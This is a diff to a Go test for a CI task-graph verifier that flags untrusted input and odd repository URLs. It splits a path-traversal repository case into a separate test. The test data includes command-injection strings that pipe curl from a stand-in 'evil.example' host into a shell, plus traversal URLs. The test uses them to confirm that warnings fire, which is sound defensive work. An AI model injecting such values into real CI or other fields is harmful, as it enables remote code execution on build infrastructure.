@@ -40,8 +40,6 @@ func TestInjected(t *testing.T) {
 		want     string // "" for no warning
 	}{
 		{"an owner", testgraph.GitHubPush(), "octo@example.com", "x'; curl evil.example|sh; '", "warn untrusted-input signing:parent /payload/command/5: the command is rendered from event.pusher.email"},
-		{"a repository that git reads otherwise", testgraph.GitHubPush(), "https://github.com/mozilla-mobile/mozilla-vpn-client", "https://github.com/mozilla-mobile/mozilla-vpn-client/tree/v1.2.3/../../../../evil/repo",
-			"warn odd-repository signing:parent /payload/env/MOZILLAVPN_HEAD_REPOSITORY"},
 		{"another owner", testgraph.GitHubPush(), "octo@example.com", "evil@example.com", ""},
 		{"words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "$(curl evil.example)", "warn untrusted-input signing:parent /payload/command/"},
 		{"other words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "--target-tasks-method=other", ""},
@@ -56,5 +54,19 @@ func TestInjected(t *testing.T) {
 				t.Errorf("expected %q:\n%s", tt.want, messages(report))
 			}
 		})
+	}
+}
+
+// TestRepositoryThatGitReadsOtherwise shows that dots in a decision task's
+// repository are warned of, beside what else they break.
+func TestRepositoryThatGitReadsOtherwise(t *testing.T) {
+	for _, dots := range []string{"/tree/v1.2.3/../../../../evil/repo", "/tree/v1.2.3/%2e%2e/x", "//x"} {
+		graph := testgraph.GitHubPush()
+		const repository = "https://github.com/mozilla-mobile/mozilla-vpn-client"
+		rewrite("decision", repository, repository+dots)(graph)
+		report, err := verify.Run(t.Context(), optionsOf(t, graph, graph.Source()))
+		if err != nil || !strings.Contains(messages(report), "warn odd-repository signing:parent /payload/env/MOZILLAVPN_HEAD_REPOSITORY") {
+			t.Errorf("%s: %v\n%s", dots, err, messages(report))
+		}
 	}
 }
